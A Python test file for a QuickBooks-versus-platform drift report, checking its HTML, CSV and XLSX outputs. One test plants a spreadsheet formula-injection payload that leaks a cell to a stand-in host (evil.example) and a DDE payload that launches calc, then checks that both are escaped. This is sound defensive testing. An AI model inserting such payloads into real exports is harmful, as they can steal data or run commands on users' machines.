"""The drift report: HTML finance reads in a browser, CSV and XLSX of the same rows."""

from __future__ import annotations

import csv
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

from markupsafe import escape

from pipelines.report import views
from pipelines.report.drift import read, write
from pipelines.report.formatting import FORMULA_STARTS, label, money
from pipelines.report.records import Directory, Realm, line_diff, parse_lines
from tests.browser import chromium, needs_chromium
from tests.demo_runs import DemoRun

NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_csv_and_xlsx_hold_every_row_of_the_tables(demo_run: DemoRun, tmp_path: Path) -> None:
    paths = write(read(demo_run.warehouse), tmp_path)
    with paths["drift"].open(encoding="utf-8") as handle:
        drift = list(csv.DictReader(handle))
    assert len(drift) == len(demo_run.planted["drift"])
    assert {row["action"] for row in drift} == {"push", "pull", "review"}
    assert all(row["what_to_do"] for row in drift)
    with paths["candidate_matches"].open(encoding="utf-8") as handle:
        assert sum(1 for _ in handle) - 1 == len(demo_run.planted["candidates"])
    with zipfile.ZipFile(paths["xlsx"]) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        workbook = book.read("xl/workbook.xml").decode()
    assert len(sheets) == 6
    for title in ("Summary", "Drift", "Conflicts", "Candidate matches", "Sync issues"):
        assert f'name="{title}"' in workbook


def test_drift_is_one_block_per_record_named_with_its_money(demo_run: DemoRun, tmp_path: Path) -> None:
    report = read(demo_run.warehouse)
    sections = {s.key: s for s in views.drift_sections(report.tables["drift"], report.directory)}
    assert list(sections) == ["review", "approval", "push", "pull"]
    conflict = next(c for c in demo_run.planted["conflicts"] if c["entity"] == "Invoice")
    [(number, customer, total)] = demo_run.rows(
        "SELECT i.doc_number, c.display_name, i.total_amount FROM staging.stg_platform__invoices AS i "
        "JOIN staging.stg_platform__customers AS c "
        "ON c.tenant_id = i.tenant_id AND c.platform_id = i.customer WHERE i.platform_id = ?",
        conflict["platform_id"],
    )
    [block] = [b for b in sections["review"].blocks if b.record.platform_id == conflict["platform_id"]]
    assert {label(f) for f in conflict["fields"]} <= {f.label for f in block.fields}  # its fields together
    name = f"Invoice {number} — {' '.join(customer.split())}"
    assert block.record.label == name
    assert ("Total", f"${total:,.2f}") in [(k, v.split(" (")[0]) for k, v in block.record.facts]

    html = write(report, tmp_path)["html"].read_text(encoding="utf-8")
    assert str(escape(name)) in html and f"${total:,.2f}" in html
    # each action explained once, at the top of its section, not on every row
    assert html.count("so neither value wins on its own") == 1
    assert html.count("The platform masters these fields") == 1
    assert "The platform masters this field" not in html  # the files' per-row form
    # plain words: no warehouse model is named
    for model in ("inbound_changes", "sync_drift", "sync_conflicts", "sync_candidate_matches", "stg_"):
        assert model not in html, model


def test_a_line_array_is_a_table_with_the_changed_cells_marked(demo_run: DemoRun, tmp_path: Path) -> None:
    report = read(demo_run.warehouse)
    [(realm, platform, qbo)] = demo_run.rows(
        "SELECT realm_id, platform_value, qbo_value FROM sync.sync_drift "
        "WHERE entity = 'Invoice' AND field = 'lines' ORDER BY platform_id LIMIT 1"
    )
    diff = line_diff("Invoice", platform, qbo, realm, "USD", report.directory)
    assert diff is not None
    assert diff.columns[:3] == ["Line", "Item", "Description"] or diff.columns[:2] == ["Line", "Item"]
    assert {"Qty", "Unit price", "Amount"} <= set(diff.columns)
    items = [row.cells[1].platform for row in diff.rows]
    assert all(item and not item.isdigit() for item in items), items  # names, not QBO Ids
    amount = diff.columns.index("Amount")
    assert all(row.cells[amount].platform.startswith("$") for row in diff.rows)
    assert any(cell.changed for row in diff.rows for cell in row.cells)

    html = write(report, tmp_path)["html"].read_text(encoding="utf-8")
    assert '<table class="lines">' in html and '<td class="changed">' in html
    assert platform not in html and qbo not in html  # no raw signature strings


def test_line_signatures_are_read_whatever_the_description_holds() -> None:
    directory = Directory(realms={"r": Realm("Co", "USD")}, names={("Item", "r", "6"): "Rock Fountain"})
    platform = "1|6|Stone; hand-cut|2.000000|35.000000|70.00|NON|; 2|6|a|b|1.000000|5.000000|5.00||"
    qbo = "1|6|Stone; hand-cut|1.000000|35.000000|35.00|NON|"
    assert parse_lines(platform, 8, 2) == {
        "1": ["1", "6", "Stone; hand-cut", "2.000000", "35.000000", "70.00", "NON", ""],
        "2": ["2", "6", "a|b", "1.000000", "5.000000", "5.00", "", ""],
    }
    diff = line_diff("Invoice", platform, qbo, "r", "USD", directory)
    assert diff is not None
    assert diff.columns == ["Line", "Item", "Description", "Qty", "Unit price", "Amount", "Tax code"]
    first, second = diff.rows
    assert [c.platform for c in first.cells] == [
        "1",
        "Rock Fountain",
        "Stone; hand-cut",
        "2",
        "$35.00",
        "$70.00",
        "NON",
    ]
    assert [c.changed for c in first.cells] == [False, False, False, True, False, True, False]
    assert (first.cells[5].qbo, second.only_in) == ("$35.00", "platform")
    assert "Qty 2 (platform) / 1 (QBO)" in diff.changes


def test_money_is_formatted_in_the_currency() -> None:
    assert money(Decimal("1234.5"), "USD") == "$1,234.50"
    assert money("-12", "GBP") == "-£12.00"
    assert money("8.125", "CHF") == "CHF 8.125"
    assert money(None, "USD") == "—"


def _xlsx(path: Path) -> tuple[dict[str, str], list[str], dict[str, str]]:
    """The workbook's sheets (by title) as XML, its shared strings, and numFmtId by format code."""
    with zipfile.ZipFile(path) as book:
        workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
        titles = [s.get("name") or "" for s in workbook.iter(f"{{{NS['x']}}}sheet")]
        sheets = {t: book.read(f"xl/worksheets/sheet{n}.xml").decode() for n, t in enumerate(titles, start=1)}
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        strings = ["".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t")) for si in shared]
        styles = book.read("xl/styles.xml").decode()
    formats = dict(re.findall(r'<numFmt numFmtId="(\d+)" formatCode="([^"]+)"/>', styles))
    return sheets, strings, {code: fid for fid, code in formats.items()}


def _cells(sheet_xml: str, strings: list[str]) -> dict[str, tuple[str, str | None, str]]:
    """cell reference -> (value as text, type, style index)."""
    out = {}
    for c in ElementTree.fromstring(sheet_xml).iter(f"{{{NS['x']}}}c"):
        v = c.find("x:v", NS)
        text = v.text if v is not None and v.text is not None else ""
        if c.get("t") == "s":
            text = strings[int(text)]
        out[c.get("r") or ""] = (text, c.get("t"), c.get("s") or "0")
    return out


def test_csv_and_xlsx_cells_cannot_run_as_formulas(demo_run: DemoRun, tmp_path: Path) -> None:
    report = read(demo_run.warehouse)
    drift = report.tables["drift"]
    col = {name: i for i, name in enumerate(drift.columns)}
    at = next(n for n, row in enumerate(drift.rows) if row[col["field"]] == "memo")
    planted = list(drift.rows[at])
    planted[col["platform_value"]] = EVIL
    planted[col["qbo_value"]] = "-2+3+cmd|' /C calc'!A0"
    drift.rows[at] = tuple(planted)
    breakdown = report.breakdown
    first = list(breakdown.rows[0])
    first[breakdown.columns.index("amount_difference")] = Decimal("-12.50")  # a number: stays one
    breakdown.rows[0] = tuple(first)
    paths = write(report, tmp_path)

    with paths["drift"].open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    [row] = [r for r in rows if r["platform_id"] == planted[col["platform_id"]] and r["field"] == "memo"]
    assert row["platform_value"] == "'" + EVIL
    assert row["qbo_value"].startswith("'-2+3")
    for r in rows:
        for value in r.values():
            assert not value.startswith(FORMULA_STARTS), value
    with paths["breakdown"].open(encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["amount_difference"] == "-12.50"

    sheets, strings, _ = _xlsx(paths["xlsx"])
    assert "'" + EVIL in strings
    assert not [s for s in strings if s.startswith(FORMULA_STARTS)]
    assert all("<f>" not in xml for xml in sheets.values())  # no formula anywhere
    cells = _cells(sheets["Per realm and entity"], strings)
    headers = {
        text: ref[:-1] for ref, (text, _, _) in cells.items() if ref.endswith("1") and ref[-2].isalpha()
    }
    value, kind, _ = cells[f"{headers['Difference']}2"]
    assert (float(value), kind) == (-12.5, None)  # a number cell, not text


def test_xlsx_has_widths_number_formats_a_frozen_filtered_header(demo_run: DemoRun, tmp_path: Path) -> None:
    paths = write(read(demo_run.warehouse), tmp_path)
    sheets, strings, formats = _xlsx(paths["xlsx"])
    assert "#,##0.00" in formats and "yyyy-mm-dd" in formats
    with zipfile.ZipFile(paths["xlsx"]) as book:
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    cell_xfs = styles.find("x:cellXfs", NS)
    assert cell_xfs is not None
    xfs = [xf.get("numFmtId") for xf in cell_xfs]
    drift = sheets["Drift"]
    assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in drift
    assert "<autoFilter " in drift
    widths = [float(w) for w in re.findall(r'<col [^>]*width="([\d.]+)"[^>]*customWidth="1"', drift)]
    assert widths and len(set(widths)) > 3  # sized to their content, not one width for all
    cells = _cells(drift, strings)
    header = {text: ref[:-1] for ref, (text, _, _) in cells.items() if re.fullmatch(r"[A-Z]+1", ref)}
    letters = list(header.values())
    # the two systems' values side by side
    assert letters.index(header["QuickBooks value"]) == letters.index(header["Platform value"]) + 1
    total = next(cells[f"{header['Total']}{n}"] for n in range(2, 200) if f"{header['Total']}{n}" in cells)
    assert total[1] is None and xfs[int(total[2])] == formats["#,##0.00"]
    date = next(cells[f"{header['Date']}{n}"] for n in range(2, 200) if f"{header['Date']}{n}" in cells)
    assert date[1] is None and xfs[int(date[2])] == formats["yyyy-mm-dd"]


@needs_chromium
def test_the_html_report_renders_in_headless_chromium(demo_run: DemoRun, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By

    report = read(demo_run.warehouse)
    html = write(report, tmp_path)["html"]
    for browser in chromium(tmp_path / "c", 1400, 1000):
        browser.get(html.as_uri())
        page = browser.find_element(By.TAG_NAME, "body").text  # what a person sees, hidden text excluded
        assert "QuickBooks drift report" in page
        for title, count, _ in report.figures:
            assert f"{count:,}\n{title}" in page, title
        first_conflict = demo_run.planted["conflicts"][0]
        assert first_conflict["platform_id"] in page
        assert "decide which value is right" in page
        chart = browser.find_element(By.CSS_SELECTOR, "svg[aria-label='Drift per entity']")
        assert chart.is_displayed() and chart.size["width"] > 300
        bars = chart.find_elements(By.TAG_NAME, "rect")
        assert len(bars) >= 6
        headings = [h.text for h in browser.find_elements(By.TAG_NAME, "h2")]
        assert any(h.startswith("Drift (") for h in headings) and any(
            h.startswith("Conflicts (") for h in headings
        )
        # a page that fits the window: nothing scrolls sideways at 1400 px
        assert browser.execute_script("return document.documentElement.scrollWidth") <= 1400
